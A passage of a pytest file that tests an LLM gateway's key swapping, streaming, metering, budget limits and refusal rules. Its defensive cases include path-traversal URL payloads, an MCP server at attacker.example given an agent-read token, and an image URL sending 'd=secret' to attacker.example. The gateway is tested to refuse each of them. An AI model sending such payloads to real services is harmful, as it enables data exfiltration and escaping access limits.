"""The LLM gateway for real: served on a Unix socket, in front of the scripted Messages API, with
the session's Redis holding each worker's usage.

What a contained worker relies on (SPEC §7): its token works only here and is swapped for the
operator's key; the answer streams through unchanged and without waiting for its end; the API's
own usage becomes the worker's spend; a spent budget stops the next call before it reaches the
API.
"""

from __future__ import annotations

import asyncio
import json
import re
import secrets
import shutil
import tempfile
from collections.abc import AsyncIterator, Awaitable, Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import aiohttp
import pytest
from aiohttp import web
from prometheus_client import REGISTRY
from pydantic import SecretStr
from redis.asyncio import Redis

from tests.support.fake_anthropic import FakeAnthropic, Recorded
from tests.support.redis_server import free_port
from worker_manager.core.keys import Keys
from worker_manager.egress.gateway import (
    MAX_BODY_BYTES_PER_WORKER,
    OAUTH_BETA,
    GatewayWorker,
    LlmGateway,
)
from worker_manager.settings import Settings

pytestmark = [pytest.mark.redis]

OPERATOR_KEY = "sk-ant-operator-key-not-for-workers-41c9"
#: The fake's usage of a streamed answer (``FAKE tokens`` sets the input) and its model's price
#: (claude-sonnet-4-5: 3 / 15 USD per million).
STREAM_OUTPUT_TOKENS = 5
JSON_OUTPUT_TOKENS = 5


def cost(input_tokens: int, output_tokens: int) -> float:
    return (input_tokens * 3 + output_tokens * 15) / 1_000_000


@dataclass
class Gateway:
    """One gateway on one worker's socket, and what a test needs to talk to it."""

    socket: Path
    worker: GatewayWorker
    fake: FakeAnthropic
    redis: Redis
    client: aiohttp.ClientSession
    marker: str = field(default_factory=lambda: secrets.token_hex(6))

    @property
    def usage_key(self) -> str:
        return Keys(self.worker.key_prefix).usage(self.worker.worker_id)

    async def usage(self) -> dict[str, str]:
        return dict(await self.redis.hgetall(self.usage_key))

    async def usage_after(self, requests: int) -> dict[str, str]:
        """The usage once ``requests`` answers are charged. A streamed answer is charged before
        its last chunk leaves the gateway; an answer of known length may reach the client a
        moment before its charge is written, hence the wait (bounded)."""
        async with asyncio.timeout(10):
            while (usage := await self.usage()).get("requests") != str(requests):
                await asyncio.sleep(0.01)
        return usage

    def seen(self) -> list[Recorded]:
        """The requests of this test that reached the fake API."""
        return [r for r in list(self.fake.requests) if self.marker in r.text()]

    def body(self, prompt: str, *, stream: bool = True) -> dict[str, Any]:
        return {
            "model": "claude-sonnet-4-5-20250929",
            "max_tokens": 64,
            "stream": stream,
            "messages": [{"role": "user", "content": f"{prompt}\n(test {self.marker})"}],
        }

    def post(
        self,
        prompt: str,
        *,
        stream: bool = True,
        token: str | None = None,
        path: str = "/v1/messages?beta=true",
        headers: dict[str, str] | None = None,
    ) -> Any:
        sent = {"anthropic-version": "2023-06-01", **(headers or {})}
        if token is not None:
            sent["x-api-key"] = token
        return self.client.post(
            f"http://worker{path}", json=self.body(prompt, stream=stream), headers=sent
        )


GatewayFactory = Callable[..., Awaitable[Gateway]]


@pytest.fixture
async def start_gateway(
    settings: Settings, redis: Redis, fake_anthropic: FakeAnthropic
) -> AsyncIterator[GatewayFactory]:
    """``await start_gateway(max_cost_usd=..., api_key=..., ...)``: a gateway on a fresh socket."""
    # A short directory of its own: a Unix socket's path is limited to ~107 bytes.
    root = Path(tempfile.mkdtemp(prefix="wm-gw-"))
    cleanups: list[Callable[[], Awaitable[None]]] = []

    async def start(
        *,
        max_cost_usd: float | None = None,
        api_key: SecretStr | None = SecretStr(OPERATOR_KEY),  # noqa: B008 - immutable
        oauth_token: SecretStr | None = None,
        upstream_url: str | None = None,
        session: aiohttp.ClientSession | None = None,
        served: bool = True,
        max_body_bytes_per_worker: int = MAX_BODY_BYTES_PER_WORKER,
    ) -> Gateway:
        socket = root / f"{len(cleanups)}" / "gateway.sock"
        socket.parent.mkdir()
        worker = GatewayWorker(
            worker_id=f"w-{secrets.token_hex(4)}",
            key_prefix=settings.key_prefix,
            token=f"wm-gw-{secrets.token_urlsafe(24)}",
            max_cost_usd=max_cost_usd,
        )
        workers = {str(socket): worker} if served else {}
        gateway = LlmGateway(
            redis=redis,
            upstream_url=upstream_url or fake_anthropic.url,
            api_key=api_key,
            oauth_token=oauth_token,
            resolve=workers.get,
            session=session,
            max_body_bytes_per_worker=max_body_bytes_per_worker,
        )
        runner = web.AppRunner(gateway.app(), access_log=None)
        await runner.setup()
        await web.UnixSite(runner, str(socket)).start()
        client = aiohttp.ClientSession(connector=aiohttp.UnixConnector(path=str(socket)))

        async def stop() -> None:
            await client.close()
            await runner.cleanup()
            await gateway.close()

        cleanups.append(stop)
        return Gateway(socket, worker, fake_anthropic, redis, client)

    try:
        yield start
    finally:
        for stop in reversed(cleanups):
            await stop()
        shutil.rmtree(root, ignore_errors=True)


def without_ids(body: bytes) -> bytes:
    """The fake numbers its messages; two answers to the same request differ only there."""
    return re.sub(rb"msg_fake\d+", b"msg_fake", body)


def counter(name: str, **labels: str) -> float:
    return REGISTRY.get_sample_value(name, labels) or 0.0


# --- the happy path ----------------------------------------------------------------------------
async def test_a_stream_reaches_the_api_with_the_operators_key_and_returns_byte_for_byte(
    start_gateway: GatewayFactory,
) -> None:
    gw = await start_gateway()
    forwarded = counter("wm_gateway_requests_total", outcome="forwarded")
    async with gw.post("FAKE say through the gateway", token=gw.worker.token) as response:
        assert response.status == 200
        assert response.headers["content-type"] == "text/event-stream"
        assert response.headers["cache-control"] == "no-cache"
        through = await response.read()
    async with (
        aiohttp.ClientSession() as direct,
        direct.post(
            f"{gw.fake.url}/v1/messages?beta=true",
            json=gw.body("FAKE say through the gateway"),
            headers={"anthropic-version": "2023-06-01", "x-api-key": OPERATOR_KEY},
        ) as response,
    ):
        straight = await response.read()
    assert b"through the gateway" in through and through.endswith(
        b'event: message_stop\ndata: {"type": "message_stop"}\n\n'
    )
    assert without_ids(through) == without_ids(straight)

    upstream, _direct = gw.seen()
    assert upstream.path == "/v1/messages?beta=true"
    assert upstream.headers["x-api-key"] == OPERATOR_KEY
    assert upstream.headers["anthropic-version"] == "2023-06-01"
    assert upstream.headers["accept-encoding"] == "identity"
    assert "authorization" not in upstream.headers
    assert not [v for v in upstream.headers.values() if gw.worker.token in v]
    assert counter("wm_gateway_requests_total", outcome="forwarded") == forwarded + 1


async def test_the_api_usage_becomes_the_workers_tokens_and_cost(
    start_gateway: GatewayFactory,
) -> None:
    gw = await start_gateway()
    async with gw.post("FAKE tokens 1234\nFAKE say one", token=gw.worker.token) as response:
        await response.read()
    async with gw.post("FAKE tokens 100\nFAKE say two", token=gw.worker.token) as response:
        await response.read()
    usage = await gw.usage()
    assert float(usage.pop("cost_usd")) == pytest.approx(
        cost(1234, STREAM_OUTPUT_TOKENS) + cost(100, STREAM_OUTPUT_TOKENS)
    )
    assert usage == {
        "input_tokens": "1334",
        "output_tokens": str(2 * STREAM_OUTPUT_TOKENS),
        "cache_creation_input_tokens": "0",
        "cache_read_input_tokens": "0",
        "requests": "2",
    }


async def test_a_json_answer_is_metered_and_count_tokens_costs_nothing(
    start_gateway: GatewayFactory,
) -> None:
    gw = await start_gateway()
    async with gw.post("FAKE tokens 77\nFAKE say json", stream=False, token=gw.worker.token) as r:
        assert r.status == 200
        answer = await r.json()
        assert int(r.headers["content-length"]) == len(await r.read())
    assert answer["content"][0]["text"] == "json"
    async with gw.post(
        "FAKE say count", path="/v1/messages/count_tokens?beta=true", token=gw.worker.token
    ) as r:
        assert r.status == 200
        assert await r.json() == {"input_tokens": 12}
    usage = await gw.usage_after(2)
    assert float(usage["cost_usd"]) == pytest.approx(cost(77, JSON_OUTPUT_TOKENS))
    assert (usage["input_tokens"], usage["output_tokens"], usage["requests"]) == ("77", "5", "2")


async def test_a_bearer_token_works_as_well_as_an_api_key(start_gateway: GatewayFactory) -> None:
    gw = await start_gateway()
    async with gw.post(
        "FAKE say bearer", headers={"authorization": f"Bearer {gw.worker.token}"}
    ) as response:
        assert response.status == 200
        assert b"bearer" in await response.read()
    [upstream] = gw.seen()
    assert upstream.headers["x-api-key"] == OPERATOR_KEY
    assert "authorization" not in upstream.headers


async def test_an_oauth_token_goes_as_bearer_with_the_oauth_beta_added(
    start_gateway: GatewayFactory,
) -> None:
    gw = await start_gateway(api_key=None, oauth_token=SecretStr("sk-ant-oat01-operator"))
    async with gw.post(
        "FAKE say oauth",
        token=gw.worker.token,
        headers={"anthropic-beta": "fine-grained-tool-streaming-2025-05-14"},
    ) as response:
        assert response.status == 200
        await response.read()
    [upstream] = gw.seen()
    assert upstream.headers["authorization"] == "Bearer sk-ant-oat01-operator"
    assert "x-api-key" not in upstream.headers
    assert (
        upstream.headers["anthropic-beta"] == f"fine-grained-tool-streaming-2025-05-14,{OAUTH_BETA}"
    )


async def test_without_a_configured_credential_the_request_goes_without_one(
    start_gateway: GatewayFactory,
) -> None:
    gw = await start_gateway(api_key=None)
    async with gw.post("FAKE say keyless", token=gw.worker.token) as response:
        assert response.status == 200
        await response.read()
    [upstream] = gw.seen()
    assert "x-api-key" not in upstream.headers and "authorization" not in upstream.headers


# --- streaming -----------------------------------------------------------------------------------
async def test_the_first_bytes_reach_the_worker_before_the_stream_ends(
    start_gateway: GatewayFactory,
) -> None:
    """The fake cannot finish until the test opens its gate, so a ``message_start`` that arrives
    before then was passed on as it came, not after the answer was complete."""
    gw = await start_gateway()
    gate = f"first-bytes-{gw.marker}"
    async with gw.post(f"FAKE gate {gate}\nFAKE say early", token=gw.worker.token) as response:
        assert response.status == 200
        received = b""
        async with asyncio.timeout(10):
            while b"event: content_block_stop" not in received:
                received += await response.content.readany()
        assert received.startswith(b"event: message_start")
        assert b"message_delta" not in received
        assert not response.content.at_eof()
        gw.fake.open_gate(gate)
        received += await response.read()
    assert received.endswith(b'event: message_stop\ndata: {"type": "message_stop"}\n\n')
    assert (await gw.usage())["output_tokens"] == str(STREAM_OUTPUT_TOKENS)


async def test_a_worker_that_hangs_up_once_it_has_the_text_is_charged_the_whole_answer(
    start_gateway: GatewayFactory,
) -> None:
    """The answer is read from the API to its end though nobody reads it any more: the final
    count (30 000 output tokens) is charged, not the 1 of ``message_start``. The API holds the
    rest of the text (2 MB, more than any socket buffer) until the worker has hung up."""
    gw = await start_gateway()
    gate = f"hang-up-{gw.marker}"
    prompt = f"FAKE tokens 5000\nFAKE output 30000\nFAKE size 2000000\nFAKE gate {gate}"
    async with gw.post(prompt, token=gw.worker.token) as response:
        async with asyncio.timeout(10):
            assert b"All work and no play" in await response.content.readany()
        response.close()  # the worker goes away with the text it wanted
    gw.fake.open_gate(gate)
    usage = await gw.usage_after(1)
    assert (usage["input_tokens"], usage["output_tokens"]) == ("5000", "30000")
    assert float(usage["cost_usd"]) == pytest.approx(cost(5000, 30000))


async def test_upstream_connections_are_pooled_across_requests(
    start_gateway: GatewayFactory,
) -> None:
    created = 0

    async def on_create(*_: object) -> None:
        nonlocal created
        created += 1

    trace = aiohttp.TraceConfig()
    trace.on_connection_create_end.append(on_create)
    session = aiohttp.ClientSession(trace_configs=[trace])
    try:
        gw = await start_gateway(session=session)
        for n in range(3):
            async with gw.post(f"FAKE say pooled {n}", token=gw.worker.token) as response:
                assert response.status == 200
                await response.read()
            async with gw.post(f"FAKE say {n}", stream=False, token=gw.worker.token) as response:
                await response.read()
    finally:
        await session.close()
    assert created == 1
    assert len(gw.seen()) == 6


# --- refusals --------------------------------------------------------------------------------
@pytest.mark.parametrize(
    "credential",
    [
        {"x-api-key": "wm-gw-wrong-token"},
        {"authorization": "Bearer wm-gw-wrong-token"},
        {"x-api-key": OPERATOR_KEY},
        {},
    ],
    ids=["wrong-key", "wrong-bearer", "the-operators-own-key", "none"],
)
async def test_a_request_without_the_workers_token_is_refused_before_the_api(
    start_gateway: GatewayFactory, credential: dict[str, str]
) -> None:
    gw = await start_gateway()
    refused = counter("wm_gateway_requests_total", outcome="unauthorized")
    async with gw.post("FAKE say never", headers=credential) as response:
        assert response.status == 401
        text = await response.text()
        body = await response.json()
    assert body["type"] == "error" and body["error"]["type"] == "authentication_error"
    assert all(value not in text for value in credential.values())
    assert gw.worker.token not in text and OPERATOR_KEY not in text
    assert gw.seen() == []
    assert await gw.usage() == {}
    assert counter("wm_gateway_requests_total", outcome="unauthorized") == refused + 1


async def test_a_socket_that_serves_no_worker_is_forbidden(start_gateway: GatewayFactory) -> None:
    gw = await start_gateway(served=False)
    async with gw.post("FAKE say never", token=gw.worker.token) as response:
        assert response.status == 403
        assert (await response.json())["error"]["type"] == "permission_error"
    assert gw.seen() == []


async def test_a_spent_budget_refuses_the_next_call_without_reaching_the_api(
    start_gateway: GatewayFactory,
) -> None:
    gw = await start_gateway(max_cost_usd=0.5)
    # 190 000 input tokens of Sonnet: $0.57, past the budget in one call (allowed: the spend
    # was $0 when it started).
    async with gw.post("FAKE tokens 190000\nFAKE say costly", token=gw.worker.token) as r:
        assert r.status == 200
        await r.read()
    spent = cost(190_000, STREAM_OUTPUT_TOKENS)
    # Flagged where the manager's watcher reads it (and stops the worker, budget_exceeded).
    assert (await gw.usage()).get("budget_exceeded") == "1"
    refused = counter("wm_gateway_requests_total", outcome="budget_exceeded")
    async with gw.post("FAKE say one more", token=gw.worker.token) as response:
        assert response.status == 400
        body = await response.json()
    assert body == {
        "type": "error",
        "error": {
            "type": "invalid_request_error",
            "message": "worker-manager: this worker's budget of $0.50 is spent "
            f"(${spent:.4f} so far); it takes no more API calls",
        },
    }
    assert [r.text() for r in gw.seen() if "one more" in r.text()] == []
    assert len(gw.seen()) == 1
    assert float((await gw.usage())["cost_usd"]) == pytest.approx(spent)
    assert counter("wm_gateway_requests_total", outcome="budget_exceeded") == refused + 1


async def test_a_budget_not_yet_spent_lets_calls_through(start_gateway: GatewayFactory) -> None:
    gw = await start_gateway(max_cost_usd=1.0)
    for n in range(2):
        async with gw.post(f"FAKE say cheap {n}", token=gw.worker.token) as response:
            assert response.status == 200
            await response.read()
    assert len(gw.seen()) == 2
    assert "budget_exceeded" not in await gw.usage()


async def test_an_unreachable_api_is_a_502_api_error(start_gateway: GatewayFactory) -> None:
    gw = await start_gateway(upstream_url=f"http://127.0.0.1:{free_port('127.0.0.1')}")
    failed = counter("wm_gateway_requests_total", outcome="upstream_error")
    async with gw.post("FAKE say nowhere", token=gw.worker.token) as response:
        assert response.status == 502
        body = await response.json()
    assert body["type"] == "error" and body["error"]["type"] == "api_error"
    assert counter("wm_gateway_requests_total", outcome="upstream_error") == failed + 1
    assert await gw.usage() == {}


async def test_an_api_error_status_is_passed_through_as_the_api_worded_it(
    start_gateway: GatewayFactory,
) -> None:
    gw = await start_gateway()
    async with gw.post("FAKE status 529", token=gw.worker.token) as response:
        assert response.status == 529
        assert (await response.json())["error"]["message"] == "fake 529"
    assert (await gw.usage_after(1))["input_tokens"] == "0"


async def broken_api(head: bytes, body: bytes) -> tuple[str, asyncio.Server]:
    """An API that sends ``head`` and the start of ``body``, then drops the connection."""

    async def answer(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        await reader.readuntil(b"\r\n\r\n")
        writer.write(head + body)
        await writer.drain()
        writer.transport.abort()

    server = await asyncio.start_server(answer, "127.0.0.1", 0)
    port = server.sockets[0].getsockname()[1]
    return f"http://127.0.0.1:{port}", server


async def test_a_stream_the_api_breaks_off_ends_with_an_error_event_and_is_charged(
    start_gateway: GatewayFactory,
) -> None:
    start = (
        b'event: message_start\ndata: {"type": "message_start", "message": {"model": '
        b'"claude-sonnet-4-5", "usage": {"input_tokens": 3000, "output_tokens": 1}}}\n\n'
    )
    chunk = b"%x\r\n%s\r\n" % (len(start), start)
    head = (
        b"HTTP/1.1 200 OK\r\ncontent-type: text/event-stream\r\ntransfer-encoding: chunked\r\n\r\n"
    )
    url, server = await broken_api(head, chunk)
    try:
        gw = await start_gateway(upstream_url=url)
        failed = counter("wm_gateway_requests_total", outcome="upstream_error")
        async with gw.post("FAKE say cut", token=gw.worker.token) as response:
            assert response.status == 200
            received = await response.read()
    finally:
        server.close()
    assert received.startswith(start)
    tail = received[len(start) :]
    assert tail.startswith(b"event: error\ndata: ") and b'"api_error"' in tail
    assert counter("wm_gateway_requests_total", outcome="upstream_error") == failed + 1
    usage = await gw.usage()
    assert usage["input_tokens"] == "3000"
    assert float(usage["cost_usd"]) == pytest.approx(cost(3000, 1))


async def test_a_stream_the_api_breaks_off_mid_answer_is_charged_for_the_text_it_sent(
    start_gateway: GatewayFactory,
) -> None:
    """No final count ever comes: the worker is charged an estimate from the text relayed
    (between a token per byte and a tokenizer's ~4 bytes a token), not the 1 of
    ``message_start``."""
    text = "The quick brown fox jumps over the lazy dog. " * 200  # 9 000 bytes
    events = [
        b'event: message_start\ndata: {"type":"message_start","message":{"model":'
        b'"claude-sonnet-4-5","usage":{"input_tokens":3000,"output_tokens":1}}}\n\n',
        b'event: content_block_start\ndata: {"type":"content_block_start","index":0,'
        b'"content_block":{"type":"text","text":""}}\n\n',
    ] + [
        b'event: content_block_delta\ndata: {"type":"content_block_delta","index":0,'
        b'"delta":{"type":"text_delta","text":"%s"}}\n\n' % text[i : i + 30].encode()
        for i in range(0, len(text), 30)
    ]
    sent = b"".join(events)
    head = (
        b"HTTP/1.1 200 OK\r\ncontent-type: text/event-stream\r\ntransfer-encoding: chunked\r\n\r\n"
    )
    url, server = await broken_api(head, b"%x\r\n%s\r\n" % (len(sent), sent))
    try:
        gw = await start_gateway(upstream_url=url)
        async with gw.post("FAKE say cut", token=gw.worker.token) as response:
            received = await response.read()
    finally:
        server.close()
    assert received.startswith(sent) and b"event: error" in received[len(sent) :]
    usage = await gw.usage_after(1)
    output = int(usage["output_tokens"])
    assert len(text) // 4 <= output <= len(text)
    assert usage["input_tokens"] == "3000"
    assert float(usage["cost_usd"]) == pytest.approx(cost(3000, output))


async def test_a_json_answer_the_api_breaks_off_is_cut_short_for_the_worker_too(
    start_gateway: GatewayFactory,
) -> None:
    head = b"HTTP/1.1 200 OK\r\ncontent-type: application/json\r\ncontent-length: 500\r\n\r\n"
    url, server = await broken_api(head, b'{"type": "message", "usage": ')
    try:
        gw = await start_gateway(upstream_url=url)
        async with gw.post("FAKE say cut", stream=False, token=gw.worker.token) as response:
            assert response.status == 200
            with pytest.raises(aiohttp.ClientPayloadError):
                await response.read()
    finally:
        server.close()
    usage = await gw.usage_after(1)
    assert float(usage["cost_usd"]) > 0  # charged by the size of what it carried


# --- what is forwarded -----------------------------------------------------------------------
async def raw_request(
    socket: Path, method: str, target: str, token: str, body: bytes = b"{}"
) -> tuple[int, dict[str, Any]]:
    """One request written byte for byte (an HTTP client would normalise ``target``)."""
    reader, writer = await asyncio.open_unix_connection(str(socket))
    try:
        writer.write(
            f"{method} {target} HTTP/1.1\r\nhost: worker\r\nx-api-key: {token}\r\n"
            f"anthropic-version: 2023-06-01\r\ncontent-type: application/json\r\n"
            f"content-length: {len(body)}\r\nconnection: close\r\n\r\n".encode()
            + body
        )
        await writer.drain()
        async with asyncio.timeout(10):
            raw = await reader.read()
    finally:
        writer.close()
    head, _, rest = raw.partition(b"\r\n\r\n")
    return int(head.split()[1]), json.loads(rest)


BATCH = json.dumps(
    {
        "requests": [
            {
                "custom_id": f"r{n}",
                "params": {
                    "model": "claude-sonnet-4-5",
                    "max_tokens": 64000,
                    "messages": [{"role": "user", "content": "FAKE say free"}],
                },
            }
            for n in range(3000)
        ]
    }
).encode()


@pytest.mark.parametrize(
    ("method", "target", "body"),
    [
        ("POST", "/v1/messages/batches", BATCH),
        ("GET", "/v1/messages/batches", b""),
        ("GET", "/v1/messages/batches/msgbatch_01/results", b""),
        ("GET", "/v1/files", b""),
        ("DELETE", "/v1/files/file_01", b""),
        ("GET", "/v1/organizations/api_keys", b""),
        ("GET", "/v1/messages?beta=true", b""),
    ],
    ids=["batch", "batches", "batch-results", "files", "file-delete", "admin", "wrong-method"],
)
async def test_only_what_an_agent_needs_is_forwarded(
    start_gateway: GatewayFactory, method: str, target: str, body: bytes
) -> None:
    """The operator's key is good for the whole account; a worker gets the endpoints an agent
    calls, nothing else: a batch of 3 000 requests would be charged nothing."""
    gw = await start_gateway()
    calls = len(gw.fake.calls)
    refused = counter("wm_gateway_requests_total", outcome="not_allowed")
    status, answer = await raw_request(gw.socket, method, target, gw.worker.token, body)
    assert status == 403
    assert answer["type"] == "error" and answer["error"]["type"] == "permission_error"
    path = target.partition("?")[0]
    assert (
        f"does not forward {method} {path}; a worker may call POST /v1/messages,"
        in (answer["error"]["message"])
    )
    assert gw.fake.calls[calls:] == []
    assert counter("wm_gateway_requests_total", outcome="not_allowed") == refused + 1
    assert await gw.usage() == {}


async def test_the_model_list_is_forwarded(start_gateway: GatewayFactory) -> None:
    gw = await start_gateway()
    calls = len(gw.fake.calls)
    status, listed = await raw_request(gw.socket, "GET", "/v1/models", gw.worker.token, b"")
    assert status == 200 and listed["data"][0]["id"] == "claude-sonnet-4-5-20250929"
    status, one = await raw_request(
        gw.socket, "GET", "/v1/models/claude-sonnet-4-5-20250929", gw.worker.token, b""
    )
    assert status == 200 and one["type"] == "model"
    assert gw.fake.calls[calls:] == [
        ("GET", "/v1/models"),
        ("GET", "/v1/models/claude-sonnet-4-5-20250929"),
    ]


async def test_a_base_url_with_a_path_keeps_it(
    start_gateway: GatewayFactory, fake_anthropic: FakeAnthropic
) -> None:
    gw = await start_gateway(upstream_url=f"{fake_anthropic.url}/anthropic/")
    calls = len(gw.fake.calls)
    async with gw.post("FAKE say prefixed", token=gw.worker.token) as response:
        assert response.status == 404  # the fake serves nothing under /anthropic
    assert gw.fake.calls[calls:] == [("POST", "/anthropic/v1/messages?beta=true")]


@pytest.mark.parametrize(
    "target",
    [
        "/v1/../../v1/messages/batches",
        "/v1/messages/../batches",
        "/v1/%2e%2e/%2E%2E/v1/files",
        "/v1/messages%2f..%2f..%2fv1%2ffiles",
        "//v1/messages",
        "/v1//messages",
        "/v1/./messages",
        "/v1/..%5c..%5cv1/files",
    ],
)
async def test_a_path_that_could_climb_out_of_the_base_url_never_leaves_the_gateway(
    start_gateway: GatewayFactory, fake_anthropic: FakeAnthropic, target: str
) -> None:
    """Behind a base URL with a path of its own (an upstream gateway's ``/anthropic``), ``..``
    (plain, or encoded for whoever decodes it later) would reach the rest of its host."""
    gw = await start_gateway(upstream_url=f"{fake_anthropic.url}/anthropic")
    calls = len(gw.fake.calls)
    bad = counter("wm_gateway_requests_total", outcome="bad_path")
    status, answer = await raw_request(
        gw.socket, "POST", target, gw.worker.token, json.dumps(gw.body("FAKE say x")).encode()
    )
    assert status == 404
    assert answer["type"] == "error" and answer["error"]["type"] == "not_found_error"
    assert gw.fake.calls[calls:] == []
    assert counter("wm_gateway_requests_total", outcome="bad_path") == bad + 1


# --- what a body may ask of the API (server tools, MCP servers, fetched sources) ---------------
def _with(gw: Gateway, **fields: Any) -> dict[str, Any]:
    return {**gw.body("FAKE say should never be answered"), **fields}


def _image(source: dict[str, Any]) -> dict[str, Any]:
    return {"type": "image", "source": source}


#: Each: what is added to a plain request, and what the refusal must name.
ACTING_FOR_THE_AGENT: dict[str, tuple[dict[str, Any], str]] = {
    "web-search": (
        {"tools": [{"type": "web_search_20250305", "name": "web_search", "max_uses": 5}]},
        "web_search_20250305",
    ),
    "web-fetch": (
        {"tools": [{"type": "web_fetch_20250910", "name": "web_fetch"}]},
        "web_fetch_20250910",
    ),
    "code-execution": (
        {"tools": [{"type": "code_execution_20250825", "name": "code_execution"}]},
        "code_execution_20250825",
    ),
    "server-tool-among-client-tools": (
        {
            "tools": [
                {"name": "Bash", "input_schema": {"type": "object"}},
                {"type": "web_search_20260209", "name": "web_search"},
            ]
        },
        "web_search_20260209",
    ),
    "mcp-servers": (
        {
            "mcp_servers": [
                {
                    "type": "url",
                    "url": "https://attacker.example/mcp",
                    "name": "x",
                    "authorization_token": "whatever-the-agent-read",
                }
            ]
        },
        "mcp_servers",
    ),
    "container": ({"container": "container_011CZ"}, "container"),
    "image-by-url": (
        {
            "messages": [
                {
                    "role": "user",
                    "content": [
                        _image({"type": "url", "url": "https://attacker.example/?d=secret"}),
                        {"type": "text", "text": "describe"},
                    ],
                }
            ]
        },
        "'url'",
    ),
    "document-by-file-id": (
        {
            "messages": [
                {
                    "role": "user",
                    "content": [{"type": "document", "source": {"type": "file", "file_id": "f"}}],
                }
            ]
        },
        "'file'",
    ),
    "url-inside-a-tool-result": (
        {
            "messages": [
                {"role": "user", "content": "go"},
                {
                    "role": "assistant",
                    "content": [{"type": "tool_use", "id": "t1", "name": "Read", "input": {}}],
                },
                {
                    "role": "user",
                    "content": [
                        {
                            "type": "tool_result",
                            "tool_use_id": "t1",
                            "content": [_image({"type": "url", "url": "https://x.example/a"})],
                        }
                    ],
                },
            ]
        },
        "'url'",
    ),
}


@pytest.mark.parametrize("path", ["/v1/messages?beta=true", "/v1/messages/count_tokens"])
@pytest.mark.parametrize("case", sorted(ACTING_FOR_THE_AGENT))
async def test_a_body_asking_the_api_to_act_for_the_agent_never_reaches_it(
    start_gateway: GatewayFactory, case: str, path: str
) -> None:
    gw = await start_gateway()
    extra, named = ACTING_FOR_THE_AGENT[case]
    refused = counter("wm_gateway_requests_total", outcome="refused_body")
    calls = len(gw.fake.calls)
    async with gw.client.post(
        f"http://worker{path}",
        json=_with(gw, **extra),
        headers={"anthropic-version": "2023-06-01", "x-api-key": gw.worker.token},
    ) as response:
        assert response.status == 403
        answer = await response.json()
    assert answer["type"] == "error" and answer["error"]["type"] == "permission_error"
    assert answer["error"]["message"].startswith("worker-manager: ")
    assert named in answer["error"]["message"]
    assert gw.fake.calls[calls:] == []
    assert counter("wm_gateway_requests_total", outcome="refused_body") == refused + 1
    assert await gw.usage() == {}


async def test_what_is_forwarded_is_the_body_the_gateway_checked(
    start_gateway: GatewayFactory,
) -> None:
    """A duplicate key is read one way by one parser and another way by the next: the gateway
    sends the JSON it parsed, so the API cannot see a server tool the gateway did not."""
    gw = await start_gateway()
    plain = json.dumps(gw.body("FAKE say checked", stream=False))
    raw = (
        plain[:-1] + ', "tools": [{"type": "web_search_20250305", "name": "web_search"}]'
        ', "tools": []}'
    )
    async with gw.client.post(
        "http://worker/v1/messages",
        data=raw.encode(),
        headers={
            "anthropic-version": "2023-06-01",
            "x-api-key": gw.worker.token,
            "content-type": "application/json",
        },
    ) as response:
        assert response.status == 200, await response.text()
    [upstream] = gw.seen()
    assert upstream.body["tools"] == []
    assert upstream.raw.count(b'"tools"') == 1


async def test_tools_the_client_runs_are_forwarded(start_gateway: GatewayFactory) -> None:
    gw = await start_gateway()
    tools = [
        {"name": "Bash", "description": "run", "input_schema": {"type": "object"}},
        {"type": "custom", "name": "Read", "input_schema": {"type": "object"}},
        {"type": "bash_20250124", "name": "bash"},
        {"type": "text_editor_20250728", "name": "str_replace_based_edit_tool"},
    ]
    async with gw.client.post(
        "http://worker/v1/messages",
        json={**gw.body("FAKE say client tools"), "tools": tools},
        headers={"anthropic-version": "2023-06-01", "x-api-key": gw.worker.token},
    ) as response:
        assert response.status == 200
        await response.read()
    [upstream] = gw.seen()
    assert upstream.body["tools"] == tools


async def test_a_body_that_is_not_a_json_object_is_refused(start_gateway: GatewayFactory) -> None:
    gw = await start_gateway()
    for raw in (b"{not json", b"[1, 2]", b"[" * 5_000):
        async with gw.client.post(
            "http://worker/v1/messages",
            data=raw,
            headers={"x-api-key": gw.worker.token, "content-type": "application/json"},
        ) as response:
            assert response.status == 400
            assert (await response.json())["error"]["type"] == "invalid_request_error"
    assert gw.seen() == []


async def test_beta_flags_off_the_allow_list_do_not_reach_the_api(
    start_gateway: GatewayFactory,
) -> None:
    gw = await start_gateway()
    async with gw.post(
        "FAKE say betas",
        token=gw.worker.token,
        headers={
            "anthropic-beta": "mcp-client-2025-11-20, claude-code-20250219,files-api-2025-04-14,"
            "code-execution-2025-08-25,interleaved-thinking-2025-05-14"
        },
    ) as response:
        assert response.status == 200
        await response.read()
    [upstream] = gw.seen()
    assert upstream.headers["anthropic-beta"] == (
        "claude-code-20250219,interleaved-thinking-2025-05-14"
    )


@pytest.mark.parametrize("stream", [True, False])
async def test_server_tool_requests_that_get_through_are_charged(
    start_gateway: GatewayFactory, stream: bool
) -> None:
    """Defence in depth: should the API report web searches, each costs its fee (0.01 USD)."""
    gw = await start_gateway()
    async with gw.post(
        "FAKE tokens 1000\nFAKE searches 3\nFAKE say searched",
        token=gw.worker.token,
        stream=stream,
    ) as response:
        assert response.status == 200
        await response.read()
    usage = await gw.usage_after(1)
    assert usage["server_tool_requests"] == "3"
    assert float(usage["cost_usd"]) == pytest.approx(cost(1000, 5) + 0.03)


# --- one worker cannot hold the shared gateway (hole g) ----------------------------------------
@dataclass
class SharedGateway:
    """One gateway serving two workers, each on its own socket, as the service does."""

    fake: FakeAnthropic
    clients: dict[str, aiohttp.ClientSession]
    workers: dict[str, GatewayWorker]

    def post(self, who: str, prompt: str) -> Any:
        body = {
            "model": "claude-sonnet-4-5-20250929",
            "max_tokens": 64,
            "stream": True,
            "messages": [{"role": "user", "content": prompt}],
        }
        return self.clients[who].post(
            "http://worker/v1/messages",
            json=body,
            headers={"anthropic-version": "2023-06-01", "x-api-key": self.workers[who].token},
        )


@pytest.fixture
async def shared_gateway(
    settings: Settings, redis: Redis, fake_anthropic: FakeAnthropic
) -> AsyncIterator[SharedGateway]:
    root = Path(tempfile.mkdtemp(prefix="wm-gw-"))
    served: dict[str, GatewayWorker] = {}
    workers: dict[str, GatewayWorker] = {}
    # A pool of 24 upstream connections for all (the service's is 1 024): more than one
    # worker's bound (16) and fewer than one worker could otherwise take.
    session = aiohttp.ClientSession(connector=aiohttp.TCPConnector(limit=24))
    gateway = LlmGateway(
        redis=redis,
        upstream_url=fake_anthropic.url,
        api_key=SecretStr(OPERATOR_KEY),
        oauth_token=None,
        resolve=served.get,
        session=session,
    )
    runner = web.AppRunner(gateway.app(), access_log=None)
    await runner.setup()
